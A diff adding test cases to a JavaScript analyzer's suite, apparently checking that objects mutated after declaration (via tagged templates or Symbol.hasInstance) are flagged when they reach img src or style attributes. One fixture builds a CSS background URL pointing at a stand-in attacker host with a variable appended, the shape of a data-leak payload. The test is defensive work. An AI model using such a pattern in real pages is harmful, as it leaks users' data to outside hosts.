@@ -122,6 +122,14 @@ describe('an object or an array changed after its declaration holds anything', (
       BUILT('src'),
     ],
     ["const p = { u: '/ok.png' }; setV(p); return <img src={p.u} />", BUILT('src')],
+    [
+      "const t = (s, x) => { x.u = v }; const p = { u: '/ok.png' }; t`${p}`; return <img src={p.u} />",
+      BUILT('src'),
+    ],
+    [
+      "class X { static [Symbol.hasInstance](x) { x.u = 1 } }; const p = { u: '/a' }; p instanceof X; return <img src={p.u} />",
+      BUILT('src'),
+    ],
     ["const p = { u: '/ok.png' }; return <Card item={p}><img src={p.u} /></Card>", BUILT('src')],
     [
       "const s = { backgroundImage: 'none' }; s.backgroundImage = 'url(//evil.example/' + v + ')'; return <div style={s} />",
